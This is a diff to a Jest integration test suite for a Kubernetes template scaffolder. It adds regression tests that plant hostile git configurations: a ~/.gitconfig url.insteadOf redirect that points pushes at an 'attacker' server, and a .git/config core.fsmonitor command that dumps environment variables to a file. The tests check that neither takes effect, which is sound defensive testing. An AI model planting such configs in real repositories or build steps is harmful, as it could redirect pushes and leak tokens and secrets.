@@ -1,15 +1,15 @@
 import { beforeAll, describe, expect, it } from '@jest/globals';
-import { readFileSync } from 'node:fs';
+import { existsSync, readFileSync } from 'node:fs';
 import { readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { parse } from 'yaml';
-import type { GitServer } from '../../src/local-cluster/git-server.ts';
+import { startGitServer, type GitServer } from '../../src/local-cluster/git-server.ts';
 import type { TemplateObject } from '../../src/templates/objects.ts';
 import { playNode, type JobObject } from '../support/job-node.ts';
 import { kubectl } from '../support/kubectl.ts';
 import { eventually, operators, statusOf } from '../support/operator.ts';
-import { cloneOf, createRun, finished, getRun, GIT_USER, gitServers, templateNamespace } from '../support/template-runs.ts';
+import { allowGitHost, cloneOf, createRun, finished, getRun, GIT_USER, gitServers, templateNamespace } from '../support/template-runs.ts';
 import { tempDirs } from '../support/temp-dirs.ts';
 
 // Template runs through the default executor, a Kubernetes Job per run. No kubelet runs
@@ -42,6 +42,7 @@ beforeAll(async () => {
   await templateNamespace(namespace);
   await kubectl(['apply', '-n', namespace, '-f', join(root, 'examples/scaffolder/rbac.yaml')]);
   git = await newGitServer();
+  await allowGitHost(namespace, git.url);
   await start({ templateExecutor: 'job', scaffoldImage: IMAGE, scaffoldJobTtlSeconds: 600 });
 });
 
@@ -107,6 +108,38 @@ describe('a template run through a scaffolding Job (the harness plays the node)'
         return /not found/i.test(String(error)) ? true : undefined;
       }
     }, 30_000);
+  });
+
+  it('when a container step plants a ~/.gitconfig whose url.insteadOf points the push at another server, then the push still goes to the run\'s repository and that server never sees the token', async () => {
+    const attacker = await startGitServer();
+    try {
+      // The attacker's server holds a repository of the same name and asks for no password.
+      await attacker.createRepository('redirected');
+      const remote = await git.createRepository('redirected');
+      await applyTemplateWithContainerStep('plants-gitconfig', `printf '[url "%s/"]\\n\\tinsteadOf = %s/\\n' '${attacker.url}' '${git.url}' > "$HOME/.gitconfig"`);
+      await createRun(namespace, 'redirected', 'plants-gitconfig', { name: 'redirected', owner: 'team-storefront', repoUrl: remote });
+      const node = await playNode(namespace, (await jobOf('redirected')).metadata.name, IMAGE);
+      expect(node.containers.map((c) => [c.name, c.code])).toEqual([['greenroom-scaffold-0', 0], ['build-info', 0], ['greenroom-scaffold-2', 0]]);
+      const done = await finished(namespace, 'redirected');
+      expect(done.status?.phase).toBe('Succeeded');
+      expect(attacker.requests).toEqual([]);
+      expect(JSON.parse(await readFile(join(await cloneOf(remote, newDir()), 'package.json'), 'utf8'))).toMatchObject({ name: 'redirected' });
+    } finally {
+      await attacker.stop();
+    }
+  });
+
+  it('when a container step plants a .git/config with core.fsmonitor in the rendered tree, then the scaffolder\'s git never runs it and the push succeeds without it', async () => {
+    const marker = join(newDir(), 'fsmonitor-ran');
+    const remote = await git.createRepository('fsmonitor');
+    await applyTemplateWithContainerStep('plants-fsmonitor', `mkdir -p .git && printf '[core]\\n\\tfsmonitor = "env > ${marker}; false #"\\n' > .git/config`);
+    await createRun(namespace, 'fsmonitor', 'plants-fsmonitor', { name: 'fsmonitor', owner: 'team-storefront', repoUrl: remote });
+    const node = await playNode(namespace, (await jobOf('fsmonitor')).metadata.name, IMAGE);
+    expect(node.containers.map((c) => c.code)).toEqual([0, 0, 0]);
+    expect((await finished(namespace, 'fsmonitor')).status?.phase).toBe('Succeeded');
+    expect(existsSync(marker)).toBe(false);
+    const clone = await cloneOf(remote, newDir());
+    expect(existsSync(join(clone, 'package.json'))).toBe(true);
   });
 
   it('when the scaffolder ServiceAccount is asked, then it may report on runs and register entities but not read Secrets, Templates or ConfigMaps, nor create Deployments', async () => {
